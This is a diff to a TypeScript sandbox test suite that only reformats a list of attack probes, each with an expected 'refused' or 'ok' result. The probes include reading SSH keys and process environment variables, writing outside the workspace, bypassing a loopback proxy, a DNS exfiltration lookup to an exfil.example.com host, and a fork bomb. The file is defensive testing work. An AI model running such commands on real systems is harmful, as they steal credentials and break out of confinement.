@@ -21,15 +21,28 @@ export interface Fixture {
 
 /** The attacks and the allowed actions, each a bash snippet printing `RESULT <name> ok|refused`. */
 export function attacks(f: Fixture, vector: string): { name: string; expect: 'ok' | 'refused'; script: string }[] {
-  const tryIt = (name: string, command: string) => `if out=$( { ${command} ; } 2>&1 ); then echo "RESULT ${name} ok $out"; else echo "RESULT ${name} refused"; fi`;
+  const tryIt = (name: string, command: string) =>
+    `if out=$( { ${command} ; } 2>&1 ); then echo "RESULT ${name} ok $out"; else echo "RESULT ${name} refused"; fi`;
   return [
     { name: 'write-outside', expect: 'refused', script: tryIt('write-outside', `echo pwned > ${f.outside}/${vector}.txt`) },
     { name: 'write-through-symlink', expect: 'refused', script: tryIt('write-through-symlink', `echo pwned > ${f.project}/planted-link`) },
     { name: 'read-ssh-key', expect: 'refused', script: tryIt('read-ssh-key', `cat ${f.home}/.ssh/id_ed25519`) },
-    { name: 'read-weft-database', expect: 'refused', script: tryIt('read-weft-database', `ls ${f.storage} && head -c 100 ${f.storage}/*.db`) },
+    {
+      name: 'read-weft-database',
+      expect: 'refused',
+      script: tryIt('read-weft-database', `ls ${f.storage} && head -c 100 ${f.storage}/*.db`),
+    },
     { name: 'read-other-run', expect: 'refused', script: tryIt('read-other-run', `cat ${f.storage}/workspaces/01OTHERRUN/notes.txt`) },
-    { name: 'loopback-not-allowed', expect: 'refused', script: tryIt('loopback-not-allowed', `curl -fsS -m 5 http://127.0.0.1:${f.deniedPort}/`) },
-    { name: 'loopback-without-proxy', expect: 'refused', script: tryIt('loopback-without-proxy', `curl -fsS -m 5 --noproxy '*' http://127.0.0.1:${f.allowedPort}/`) },
+    {
+      name: 'loopback-not-allowed',
+      expect: 'refused',
+      script: tryIt('loopback-not-allowed', `curl -fsS -m 5 http://127.0.0.1:${f.deniedPort}/`),
+    },
+    {
+      name: 'loopback-without-proxy',
+      expect: 'refused',
+      script: tryIt('loopback-without-proxy', `curl -fsS -m 5 --noproxy '*' http://127.0.0.1:${f.allowedPort}/`),
+    },
     { name: 'dns-exfiltration', expect: 'refused', script: tryIt('dns-exfiltration', `getent hosts secret-${vector}.exfil.example.com`) },
     { name: 'weft-environ', expect: 'refused', script: tryIt('weft-environ', `cat /proc/${process.pid}/environ`) },
     {
@@ -55,8 +68,16 @@ for pid in pids:
 sys.stdout.write(str(len(pids)))
 " > /tmp/forks 2>/dev/null; n=$(cat /tmp/forks); if [ "$n" -lt 2000 ]; then echo "RESULT fork-bomb refused $n"; else echo "RESULT fork-bomb ok $n"; fi`,
     },
-    { name: 'daemon', expect: 'ok', script: `setsid nohup bash -c 'exec -a ${f.daemonMark}-${vector} sleep 300' >/dev/null 2>&1 & echo "RESULT daemon ok"` },
-    { name: 'write-workspace', expect: 'ok', script: tryIt('write-workspace', `echo mine > ${f.project}/${vector}-allowed.txt && cat ${f.project}/${vector}-allowed.txt`) },
+    {
+      name: 'daemon',
+      expect: 'ok',
+      script: `setsid nohup bash -c 'exec -a ${f.daemonMark}-${vector} sleep 300' >/dev/null 2>&1 & echo "RESULT daemon ok"`,
+    },
+    {
+      name: 'write-workspace',
+      expect: 'ok',
+      script: tryIt('write-workspace', `echo mine > ${f.project}/${vector}-allowed.txt && cat ${f.project}/${vector}-allowed.txt`),
+    },
     { name: 'read-project', expect: 'ok', script: tryIt('read-project', `cat ${f.project}/README.md`) },
     { name: 'allowed-host', expect: 'ok', script: tryIt('allowed-host', `curl -fsS -m 5 http://127.0.0.1:${f.allowedPort}/`) },
   ];
@@ -84,4 +105,3 @@ export function daemonsAlive(mark: string): string[] {
   }
   return alive;
 }
-
